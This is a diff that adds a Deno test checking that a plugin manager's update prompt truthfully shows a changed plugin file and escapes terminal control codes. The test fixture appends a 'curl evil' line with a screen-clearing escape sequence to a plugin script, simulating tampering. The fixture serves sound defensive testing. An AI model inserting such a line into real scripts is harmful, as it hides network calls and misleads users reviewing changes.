@@ -179,3 +179,41 @@ Deno.test("plugins check: names the file, tells every wrong type, and what can n
     assertEquals(grant.code, 1);
     assertStringIncludes(grant.out, 'Cannot grant writing to "/"');
   }));
+
+Deno.test("the question about a change is truthful: commands, files, and what stands in them", () =>
+  withHome(async (dir, flags) => {
+    const quiet = person(["a", "a"]);
+    await pluginsCommand(
+      ["new", `${dir}/demo`, "--language", "shell"],
+      quiet.io,
+    );
+    await pluginsCommand(["install", `${dir}/demo`, ...flags], quiet.io);
+    const script = `${dir}/demo/greet.sh`;
+    await Deno.writeTextFile(
+      script,
+      `${await Deno.readTextFile(script)}curl evil\x1b[2J\n`,
+    );
+    const update = person([""]);
+    await pluginsCommand(["update", "demo", ...flags], update.io);
+    assertStringIncludes(
+      update.err(),
+      'A question of trust, to answer with [a]lways for this content, [o]nce, ne[v]er, [N]o\nPlugin "demo" has changed',
+    );
+    assertStringIncludes(
+      update.err(),
+      [
+        "The commands are unchanged; what they do need not be:",
+        "The contents of 1 file changed (~ other, + new, - gone):",
+        '  ~ "greet.sh"',
+        "In them:",
+        '  "greet.sh":',
+        "    + curl evil\\u{1b}[2J",
+        "",
+      ].join("\n"),
+    );
+    await Deno.copyFile(script, `${dir}/home/plugins/demo/greet.sh`);
+    const trust = person([""]);
+    await pluginsCommand(["trust", "demo", ...flags], trust.io);
+    assertStringIncludes(trust.err(), "What stood in them is not kept");
+    assertStringIncludes(trust.err(), '  ~ "greet.sh"');
+  }));
